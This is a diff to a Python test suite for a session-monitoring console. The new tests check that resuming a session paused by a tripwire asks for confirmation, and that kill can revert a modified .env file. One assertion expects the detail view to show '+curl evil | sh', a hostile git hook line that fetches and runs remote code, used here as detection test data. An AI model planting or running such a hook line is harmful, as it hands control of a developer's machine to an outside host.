@@ -16,6 +16,7 @@ from support.tui import Clock, foreign_controls, frame, make_app, screen_text, u
 
 from console.sessions.cgroups import pid_frozen
 from console.tui.model.watch_model import TripwireEntry
+from console.tui.screens.prompts import ConfirmPrompt, OptionPrompt
 from console.tui.screens.watch import RecordScreen
 from console.tui.widgets.status_line import StatusLine
 
@@ -107,7 +108,10 @@ async def test_a_paused_session_is_a_queue_item_and_resume_continues_it(env, clo
             text = screen_text(app)
             assert f"TRIPWIRE  session {sid} modified .git/hooks/pre-commit" in text
             detail = app.views["queue"].detail.plain
-            assert "+curl evil | sh" in detail and "The session is stopped" in detail
+            assert "+curl evil | sh" in detail
+            # The pause said as it is (this daemon freezes cgroups), not "SIGSTOP".
+            assert "The session is stopped (cgroup freeze)" in detail and "SIGSTOP" not in detail
+            assert "the previous content is kept: kill puts it back" in detail
             assert app.pills.get("tripwire") == "1 session paused by tripwire"
             footer = text.splitlines()[-1]
             assert "r resume" in footer and "K kill" in footer and "p keep paused" in footer
@@ -121,7 +125,19 @@ async def test_a_paused_session_is_a_queue_item_and_resume_continues_it(env, clo
             assert stopped(pid) and app.pending.get(ident) is not None
             before = counter.read_text() if counter.exists() else ""
             clock.advance(5)
+            # Resume asks first, saying what it does to the baseline; "n" leaves it paused.
             await pilot.press("r")
+            await until(pilot, lambda: isinstance(app.screen, ConfirmPrompt))
+            assert f"Resume session {sid}?" in screen_text(app)
+            said = app.screen.help_text.plain  # (wrapped in the dialog's box on screen)
+            assert "the new content of .git/hooks/pre-commit becomes its baseline" in said
+            await pilot.press("n")
+            await until(pilot, lambda: not isinstance(app.screen, ConfirmPrompt))
+            assert stopped(pid) and app.pending.get(ident) is not None
+            clock.advance(5)  # the detail is shown again: the typed-ahead guard holds keys a moment
+            await pilot.press("r")
+            await until(pilot, lambda: isinstance(app.screen, ConfirmPrompt))
+            await pilot.press("y")
             await until(pilot, lambda: app.pending.get(ident) is None)
             assert f"resumed: session {sid}" in status(app)
             assert wait_for(lambda: not stopped(pid))
@@ -138,13 +154,22 @@ async def test_kill_ends_the_paused_session(env, clock):
     app = make_app(d, clock)
     async with app.run_test(size=SIZE) as pilot:
         await until(pilot, lambda: app.watch_monitor.loaded)
+        had = (ws / ".env").read_bytes() if (ws / ".env").exists() else None
         sid, pid = start(d, ws, "sleep 0.6; echo x >> .env; sleep 60")
         try:
             ident = await tripwire_item(pilot, app, sid)
             assert wait_for(lambda: stopped(pid))
-            await pilot.press("K")  # not guarded, like a denial
+            await pilot.press("K")  # not guarded, like a denial; it asks, revert ticked
+            await until(pilot, lambda: isinstance(app.screen, OptionPrompt))
+            assert "revert .env to its baseline" in screen_text(app)
+            assert "put .env back as it was" in app.screen.help_text.plain
+            assert app.screen.ticked is True
+            await pilot.press("y")
             await until(pilot, lambda: app.pending.get(ident) is None)
             assert wait_for(lambda: gone(pid))
+            await until(pilot, lambda: ".env reverted" in status(app))
+            # put back as it was before the session's append
+            assert ((ws / ".env").read_bytes() if (ws / ".env").exists() else None) == had
             with d.operator() as op:
                 assert op.call("sessions.get", {"session": sid})["session"]["status"] == "exited"
         finally:
@@ -185,6 +210,9 @@ async def test_keep_paused_and_an_item_already_there_when_the_console_starts(env
         async with app.run_test(size=SIZE) as pilot:
             ident = await tripwire_item(pilot, app, sid)
             await pilot.press("p")
+            await until(pilot, lambda: isinstance(app.screen, OptionPrompt))
+            assert app.screen.ticked is False  # keep paused reverts only when asked
+            await pilot.press("y")
             await until(pilot, lambda: app.pending.get(ident) is None)
             # The item leaves the queue on the daemon's event; the status line says so
             # when the reply to the keypress arrives, which may come a moment later.
@@ -243,6 +271,9 @@ async def test_a_paused_pane_says_so_refuses_input_and_the_list_resumes_it(env, 
             await until(pilot, lambda: screen.view.select_session(sid))
             screen.view.focus()
             await pilot.press("R")
+            await until(pilot, lambda: isinstance(app.screen, ConfirmPrompt))
+            assert "becomes their baseline" in app.screen.help_text.plain
+            await pilot.press("y")
             assert wait_for(lambda: not stopped(pid))
             await until(pilot, lambda: not pane.paused)
             # Finding 4: after the answer, the panel does not call the hook "the same as its
